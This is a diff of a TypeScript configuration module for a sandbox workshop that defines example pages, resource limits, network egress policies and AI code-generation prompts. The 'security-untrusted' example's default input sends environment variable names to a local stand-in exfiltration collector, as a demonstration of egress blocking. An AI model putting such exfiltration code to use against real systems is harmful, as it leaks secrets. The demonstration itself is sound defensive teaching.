@@ -1,9 +1,64 @@
-export type ExampleId =
-  | 'ai-generated-code'
-  | 'data-analysis'
-  | 'interactive-dev'
-  | 'ci-testing'
-  | 'security-untrusted';
+/// <reference types="vite/client" />
+import type {
+  CiTestCommand,
+  CodeLanguage,
+  NetworkPolicy,
+  NetworkPolicyMode,
+  ResourceLimits,
+  StaticAnalysisPolicy
+} from './types';
+import type { CompiledContent, ContentBlock } from './workshop.content';
+import { aiModels, defaultAiModelId } from './workshop.models';
+import type { ExampleField, ExamplePanel, ExampleRunnerDefinition } from './workshop.runners';
+
+// Any file in content/examples; adding one needs no other registration.
+export type ExampleId = string;
+
+// Keep in sync with EXPOSE in the Dockerfile. Port 3000 is reserved for the sandbox control plane.
+export const previewPorts = [8080, 8081, 8082, 5173] as const;
+
+export type PreviewPort = (typeof previewPorts)[number];
+
+export const defaultResourceLimits: ResourceLimits = {
+  cpuSeconds: 2,
+  memoryMb: 256,
+  outputKb: 64,
+  maxProcesses: 16,
+  wallSeconds: 3
+};
+
+export const codeLanguages: CodeLanguage[] = ['python', 'javascript', 'typescript', 'shell'];
+
+export const ciTestCommands: CiTestCommand[] = ['node --test', 'npm test', 'pytest'];
+
+// Each repair is another model call plus a sandbox run, so keep the loop short.
+export const maxRepairAttempts = 3;
+
+// warn reports findings, rewrite also neutralizes blocking calls, block also refuses dangerous code.
+export const staticAnalysisPolicies: StaticAnalysisPolicy[] = ['warn', 'rewrite', 'block'];
+
+export const networkPolicyModes: NetworkPolicyMode[] = ['none', 'allowlist', 'open'];
+
+// 127.0.0.1:9900 is the stand-in "api" server; its sibling on 9901 plays the exfiltration collector.
+export const defaultNetworkPolicy: NetworkPolicy = {
+  mode: 'allowlist',
+  allowlist: ['127.0.0.1:9900']
+};
+
+export type CodeLanguageOption = {
+  id: CodeLanguage;
+  label: string;
+  defaultInput: string;
+  // How prompts name the language, plus rules appended to its system prompt.
+  promptName: string;
+  promptRules: string[];
+};
+
+// {{placeholder}} values are filled in by the worker; unknown placeholders are rejected.
+export type PromptTemplate = {
+  system: string;
+  user: string;
+};
 
 export type ExampleDefinition = {
   id: ExampleId;
@@ -12,36 +67,208 @@ export type ExampleDefinition = {
   workshopGoal: string;
   prompt: string;
   defaultInput: string;
+  languages?: CodeLanguageOption[];
+  prompts?: {
+    generate: PromptTemplate;
+    repair: PromptTemplate;
+  };
+  // Default policy for the Python static analysis gate, when the example has one.
+  analysisPolicy?: StaticAnalysisPolicy;
+  runner: ExampleRunnerDefinition;
+  // Rendered in order by ExamplePage; also the input schema the worker accepts.
+  fields: ExampleField[];
+  panels?: ExamplePanel[];
   method: 'GET' | 'POST';
   messages?: {
     successSummary?: string;
     failureSummary?: string;
   };
+  // The Markdown below the frontmatter, including its runnable blocks.
+  body: ContentBlock[];
 };
 
-export const examples: ExampleDefinition[] = [
-  {
-    id: 'ai-generated-code',
-    slug: '/examples/ai-generated-code',
-    title: '1. AI-Generated Code Execution',
-    workshopGoal: 'Safely run model-generated Python and inspect rich outputs.',
-    prompt: 'Paste Python code generated by an AI assistant.',
-    defaultInput: `numbers = [4, 8, 15, 16, 23, 42]
+type ExampleBehavior = Pick<
+  ExampleDefinition,
+  'defaultInput' | 'languages' | 'prompts' | 'analysisPolicy' | 'runner' | 'fields' | 'panels'
+>;
+
+const defaultPythonSnippet = `numbers = [4, 8, 15, 16, 23, 42]
 print("count:", len(numbers))
 print("sum:", sum(numbers))
-print("mean:", sum(numbers) / len(numbers))`,
-    method: 'POST',
-    messages: {
-      successSummary: 'Code executed in isolated context.',
-      failureSummary: 'Code execution returned an interpreter error.'
-    }
+print("mean:", sum(numbers) / len(numbers))`;
+
+const repairUserPrompt =
+  'Goal:\n{{goal}}\n\nScript:\n{{code}}\n\nIt exited with code {{exitCode}} and this stderr:\n{{stderr}}\n\n' +
+  'Return the full corrected {{language}} script.';
+
+const modelField: ExampleField = {
+  kind: 'select',
+  name: 'model',
+  label: 'Workers AI Model',
+  options: aiModels.map((model) => ({
+    value: model.id,
+    label: `${model.label} (${model.maxTokens} tokens, temperature ${model.temperature})`
+  })),
+  defaultValue: defaultAiModelId
+};
+
+const repairAttemptsField: ExampleField = {
+  kind: 'select',
+  name: 'repairAttempts',
+  label: 'Self-Repair Attempts',
+  options: Array.from({ length: maxRepairAttempts + 1 }, (_, count) => ({
+    value: count,
+    label: count === 0 ? 'off' : `up to ${count}`
+  })),
+  defaultValue: 0
+};
+
+function analysisPolicyField(defaultValue: StaticAnalysisPolicy, when?: ExampleField['when']): ExampleField {
+  return {
+    kind: 'select',
+    name: 'analysisPolicy',
+    label: 'Static Analysis Policy',
+    options: staticAnalysisPolicies.map((policy) => ({ value: policy, label: policy })),
+    defaultValue,
+    when
+  };
+}
+
+const pythonOnly = { field: 'language', equals: 'python' };
+
+const defaultCiProject = {
+  'package.json': `{
+  "type": "module",
+  "scripts": {
+    "test": "node --test --test-reporter=tap"
+  }
+}
+`,
+  'math.js': `export function add(a, b) {
+  return a + b;
+}
+
+export function multiply(a, b) {
+  return a * b;
+}
+`,
+  'math.test.js': `import test from 'node:test';
+import assert from 'node:assert/strict';
+import { add, multiply } from './math.js';
+
+test('add works', () => {
+  assert.equal(add(2, 3), 5);
+});
+
+test('multiply works', () => {
+  assert.equal(multiply(3, 7), 21);
+});
+`
+};
+
+// Behavior that needs code, by example id; the rest of each example lives in content/examples/*.md.
+// A content file whose frontmatter declares its own runner and fields needs no entry here.
+const exampleBehaviors: Record<ExampleId, Partial<ExampleBehavior>> = {
+  'ai-generated-code': {
+    defaultInput: defaultPythonSnippet,
+    languages: [
+      {
+        id: 'python',
+        label: 'Python',
+        defaultInput: defaultPythonSnippet,
+        promptName: 'Python',
+        promptRules: ['Prefer standard library only unless user explicitly asks otherwise.']
+      },
+      {
+        id: 'javascript',
+        label: 'JavaScript',
+        defaultInput: `const numbers = [4, 8, 15, 16, 23, 42];
+const sum = numbers.reduce((total, value) => total + value, 0);
+console.log('count:', numbers.length);
+console.log('sum:', sum);
+console.log('mean:', sum / numbers.length);`,
+        promptName: 'JavaScript',
+        promptRules: [
+          'Use plain Node.js JavaScript with no npm packages.',
+          'Use console.log for output and avoid top-level await.'
+        ]
+      },
+      {
+        id: 'typescript',
+        label: 'TypeScript',
+        defaultInput: `const numbers: number[] = [4, 8, 15, 16, 23, 42];
+const sum: number = numbers.reduce((total, value) => total + value, 0);
+console.log('count:', numbers.length);
+console.log('sum:', sum);
+console.log('mean:', sum / numbers.length);`,
+        promptName: 'TypeScript',
+        promptRules: [
+          'Use TypeScript with explicit types and no npm packages or imports.',
+          'Use console.log for output and avoid top-level await.'
+        ]
+      },
+      {
+        id: 'shell',
+        label: 'Shell',
+        defaultInput: `numbers="4 8 15 16 23 42"
+count=0
+sum=0
+for n in $numbers; do
+  count=$((count + 1))
+  sum=$((sum + n))
+done
+echo "count: $count"
+echo "sum: $sum"
+echo "mean: $((sum / count))"`,
+        promptName: 'Bash',
+        promptRules: [
+          'Use POSIX utilities available in a Debian container (no package installs).',
+          'Do not use sudo, interactive commands, or infinite loops.'
+        ]
+      }
+    ],
+    prompts: {
+      generate: {
+        system:
+          'You generate {{language}} scripts for an educational Cloudflare Sandbox workshop. ' +
+          'Return only {{language}} code, no markdown fences. ' +
+          'Keep it short (15-40 lines), clear, safe, and runnable in a sandbox. ' +
+          '{{rules}} Always print observable output for workshop participants.',
+        user: 'Create a {{language}} script for this request:\n{{prompt}}\n\nReturn only raw {{language}} code.'
+      },
+      repair: {
+        system:
+          'You repair {{language}} scripts that failed inside a Cloudflare Sandbox workshop. ' +
+          'Return only the complete corrected {{language}} code, no markdown fences or explanations. ' +
+          'Make the smallest change that fixes the error and keep the original intent and printed output. {{rules}}',
+        user: repairUserPrompt
+      }
+    },
+    analysisPolicy: 'warn',
+    runner: { kind: 'ai-code' },
+    fields: [
+      { kind: 'language', name: 'language', label: 'Language', codeField: 'input' },
+      modelField,
+      {
+        kind: 'textarea',
+        name: 'prompt',
+        label: 'User Prompt',
+        defaultValue: 'Transform this text and show simple statistics.',
+        rows: 4
+      },
+      { kind: 'code', name: 'input', label: 'Generated {language} (editable)', rows: 12, generateFrom: 'prompt' },
+      { kind: 'network', name: 'network', label: 'Network Egress', when: pythonOnly },
+      analysisPolicyField('warn', pythonOnly),
+      {
+        kind: 'note',
+        text: 'The network egress policy and static analysis apply to Python runs only.',
+        when: { field: 'language', notEquals: 'python' }
+      },
+      repairAttemptsField
+    ],
+    panels: ['notebook']
   },
-  {
-    id: 'data-analysis',
-    slug: '/examples/data-analysis',
-    title: '2. Data Analysis Workflow',
-    workshopGoal: 'Upload CSV data, generate analysis code with AI, and execute it in sandbox.',
-    prompt: 'Provide CSV data plus a natural-language analysis question.',
+  'data-analysis': {
     defaultInput: `region,quarter,revenue,users,channel
 us-east,Q1,1200,34,enterprise
 us-east,Q2,1390,37,enterprise
@@ -51,52 +278,152 @@ eu-central,Q1,1430,42,enterprise
 eu-central,Q2,1510,44,enterprise
 apac,Q1,870,24,self-serve
 apac,Q2,990,26,self-serve`,
-    method: 'POST',
-    messages: {
-      failureSummary: 'AI-generated analysis failed. Review stderr output.'
-    }
+    prompts: {
+      generate: {
+        system:
+          'You write production-quality Python data analysis scripts for Cloudflare Sandbox demos. ' +
+          'Return only raw Python code with no markdown fences. ' +
+          'Use pandas and optionally matplotlib/numpy. ' +
+          'The dataset is a {{format}} file at {{path}}; load it with df = {{loader}}. ' +
+          'Trust the column profile dtypes: pass datetime columns to parse_dates and expect nulls where nullCount > 0. ' +
+          'Answer the user question clearly in printed output. ' +
+          'If a chart helps, save it to /workspace/data/chart.png.',
+        user: 'Dataset structure JSON:\n{{structure}}\n\nAnalysis question:\n{{question}}\n\nGenerate complete Python code now.'
+      },
+      repair: {
+        system:
+          'You repair Python data analysis scripts that failed inside a Cloudflare Sandbox workshop. ' +
+          'Return only the complete corrected Python code, no markdown fences or explanations. ' +
+          'Keep using pandas and load the dataset with df = {{loader}}. ' +
+          'Make the smallest change that fixes the error and keep the original intent and printed output.',
+        user: repairUserPrompt
+      }
+    },
+    // Matches what the old regex pass did: comment out plt.show(), input(), and time.sleep().
+    analysisPolicy: 'rewrite',
+    runner: { kind: 'data-analysis' },
+    fields: [
+      {
+        kind: 'textarea',
+        name: 'prompt',
+        label: 'Analysis Question',
+        defaultValue: 'Which region has the best revenue per user, and can you visualize it?',
+        rows: 3
+      },
+      modelField,
+      {
+        kind: 'dataset',
+        name: 'dataset',
+        label: 'Dataset File (optional CSV, JSON, NDJSON, Parquet, or XLSX; replaces the pasted CSV)',
+        accept: '.csv,.json,.ndjson,.jsonl,.parquet,.xlsx'
+      },
+      analysisPolicyField('rewrite'),
+      repairAttemptsField,
+      { kind: 'code', name: 'input', label: 'Sandbox Input', rows: 10 }
+    ]
   },
-  {
-    id: 'interactive-dev',
-    slug: '/examples/interactive-dev',
-    title: '3. Interactive Dev Environment',
-    workshopGoal: 'Start an HTTP server in a sandbox and open a preview URL.',
-    prompt: 'No input needed. This launches a preview app inside the sandbox.',
+  'interactive-dev': {
     defaultInput: '',
-    method: 'GET',
-    messages: {
-      successSummary: 'Preview server started in sandbox and exposed through URL.'
-    }
+    runner: { kind: 'dev-preview' },
+    fields: [
+      {
+        kind: 'text',
+        name: 'repoUrl',
+        label: 'Repository URL (leave empty for the static preview)',
+        placeholder: 'https://github.com/owner/repo.git'
+      },
+      {
+        kind: 'file',
+        name: 'bundle',
+        label: 'Git Bundle (optional, for offline use instead of a URL)',
+        accept: '.bundle'
+      },
+      { kind: 'text', name: 'branch', label: 'Branch (optional)' },
+      {
+        kind: 'text',
+        name: 'startCommand',
+        label: 'Start Command',
+        defaultValue: 'npm run dev -- --host 0.0.0.0 --port 5173'
+      },
+      {
+        kind: 'text',
+        name: 'previewName',
+        label: 'Preview Name (optional, runs several previews side by side)',
+        placeholder: 'app'
+      },
+      {
+        kind: 'select',
+        name: 'port',
+        label: 'Port',
+        options: previewPorts.map((port) => ({ value: port, label: String(port) })),
+        defaultValue: 5173
+      }
+    ],
+    panels: ['previews']
   },
-  {
-    id: 'ci-testing',
-    slug: '/examples/ci-testing',
-    title: '4. CI, Testing, and Build Pipelines',
-    workshopGoal: 'Run JavaScript tests in isolation and capture logs and exit codes.',
-    prompt: 'No input needed. This creates a tiny JS project and runs node test.',
-    defaultInput: '',
-    method: 'POST',
-    messages: {
-      successSummary: 'Tests passed in an isolated sandbox.',
-      failureSummary: 'Test run failed in sandbox.'
-    }
+  'ci-testing': {
+    defaultInput: JSON.stringify(defaultCiProject, null, 2),
+    runner: { kind: 'ci' },
+    fields: [
+      {
+        kind: 'select',
+        name: 'testCommand',
+        label: 'Test Command',
+        options: ciTestCommands.map((command) => ({ value: command, label: command })),
+        defaultValue: 'node --test'
+      },
+      {
+        kind: 'file',
+        name: 'archive',
+        label: 'Project Archive (optional .tar / .tar.gz, replaces the file map)',
+        accept: '.tar,.tgz,.tar.gz,application/gzip,application/x-tar'
+      },
+      { kind: 'code', name: 'input', label: 'Project Files (JSON path to contents)', rows: 16 }
+    ]
   },
-  {
-    id: 'security-untrusted',
-    slug: '/examples/security-untrusted',
-    title: '5. Security and Untrusted Code',
-    workshopGoal: 'Execute intentionally risky code in containment and observe behavior.',
-    prompt: 'Paste untrusted Python code to run with a short timeout.',
+  'security-untrusted': {
     defaultInput: `import os
+import urllib.request
+
 print("cwd:", os.getcwd())
 print("root entries:", len(os.listdir("/")))
-# Sandbox isolates this execution from host infrastructure.`,
-    method: 'POST',
-    messages: {
-      successSummary: 'Untrusted code executed inside sandbox boundary with timeout controls.'
-    }
+
+# 9900 stands in for an approved API; 9901 is where an attacker would collect secrets.
+for label, url in [("approved api", "http://127.0.0.1:9900/status"), ("exfiltration", "http://127.0.0.1:9901/collect")]:
+    try:
+        reply = urllib.request.urlopen(url, data=str(sorted(os.environ)).encode(), timeout=2).read()
+        print(label, "reached:", reply.decode())
+    except Exception as error:
+        print(label, "failed:", error)`,
+    analysisPolicy: 'warn',
+    runner: { kind: 'untrusted-code' },
+    fields: [
+      { kind: 'limits', name: 'limits', label: 'Resource Limits' },
+      { kind: 'network', name: 'network', label: 'Network Egress' },
+      analysisPolicyField('warn'),
+      { kind: 'code', name: 'input', label: 'Sandbox Input', rows: 10 }
+    ]
   }
-];
+};
+
+const exampleFiles = import.meta.glob<CompiledContent>('../content/examples/*.md', { eager: true, import: 'default' });
+
+export const examples: ExampleDefinition[] = Object.keys(exampleFiles)
+  .sort()
+  .map((path) => {
+    const { file, frontmatter, body } = exampleFiles[path];
+    const example = {
+      defaultInput: '',
+      ...frontmatter,
+      ...exampleBehaviors[frontmatter.id as ExampleId],
+      body
+    } as ExampleDefinition;
+
+    if (!example.runner || !example.fields) {
+      throw new Error(`${file}: examples need a runner and fields, in frontmatter or in exampleBehaviors.`);
+    }
+    return example;
+  });
 
 export const exampleById = Object.fromEntries(
   examples.map((example) => [example.id, example])